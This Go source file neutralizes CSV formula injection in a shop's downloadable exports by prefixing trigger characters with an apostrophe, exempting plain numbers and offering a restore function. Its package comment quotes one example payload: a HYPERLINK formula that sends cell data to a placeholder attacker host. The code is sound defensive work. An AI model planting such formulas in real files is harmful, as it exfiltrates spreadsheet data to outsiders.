// Package csvcell keeps the cells of the CSV files chatshop writes from being run as formulas by the
// spreadsheet that opens them ("CSV injection"), and undoes that when such a file is read back.
//
// A shopper chooses their own name and a retailer's staff type product titles; a cell such as
// =HYPERLINK("http://evil.example/?x="&A1,"click") would otherwise be a live formula in the
// retailer's spreadsheet. Following OWASP, a cell whose first character is =, +, -, @, tab or
// carriage return gets a leading apostrophe, which spreadsheets read as "this is text".
package csvcell

import (
	"encoding/csv"
	"io"
	"strings"
)

// triggers are the first characters that make a spreadsheet evaluate a cell (OWASP's list).
const triggers = "=+-@\t\r"

// Neutralize returns s as a cell a spreadsheet shows as text: with an apostrophe in front when it
// starts with a trigger character, or with apostrophes followed by one (so that Restore, which
// removes one apostrophe from such cells, gives back exactly s).
//
// A plain decimal number such as -5 or -12.50 is left alone: the writers put prices, quantities
// and amounts through here like every other cell, a spreadsheet reads -5 as the number it is (no
// formula can be written with only digits, one point and a leading minus), and the retailer's sums
// keep working. Deciding by the value rather than by the column keeps one rule for every writer,
// and a column added later is safe without anyone remembering to mark it as text.
func Neutralize(s string) string {
	if isPlainNumber(s) {
		return s
	}
	if rest := strings.TrimLeft(s, "'"); rest != "" && strings.IndexByte(triggers, rest[0]) >= 0 {
		return "'" + s
	}
	return s
}

// Restore undoes Neutralize: a cell made of one or more apostrophes followed by a trigger
// character loses its first apostrophe. Any other cell is returned as it is.
func Restore(s string) string {
	if rest := strings.TrimLeft(s, "'"); len(rest) < len(s) && rest != "" && strings.IndexByte(triggers, rest[0]) >= 0 {
		return s[1:]
	}
	return s
}

// isPlainNumber reports whether s is an optional minus, digits and optionally a point and digits.
func isPlainNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	whole, frac, hasPoint := strings.Cut(s, ".")
	return allDigits(whole) && (!hasPoint || allDigits(frac))
}

func allDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := range len(s) {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// Writer is a csv.Writer that neutralizes every cell it writes: every CSV chatshop offers for
// download goes through one, so that no cell of it can start a formula.
type Writer struct {
	cw     *csv.Writer
	record []string
}

// NewWriter returns a Writer that writes comma-separated records to w.
func NewWriter(w io.Writer) *Writer {
	return &Writer{cw: csv.NewWriter(w)}
}

// Write writes one record, each cell neutralized; record itself is not changed.
func (w *Writer) Write(record []string) error {
	w.record = w.record[:0]
	for _, cell := range record {
		w.record = append(w.record, Neutralize(cell))
	}
	return w.cw.Write(w.record)
}

// Flush writes any buffered data to the underlying io.Writer.
func (w *Writer) Flush() { w.cw.Flush() }

// Error reports any error of a previous Write or Flush.
func (w *Writer) Error() error { return w.cw.Error() }
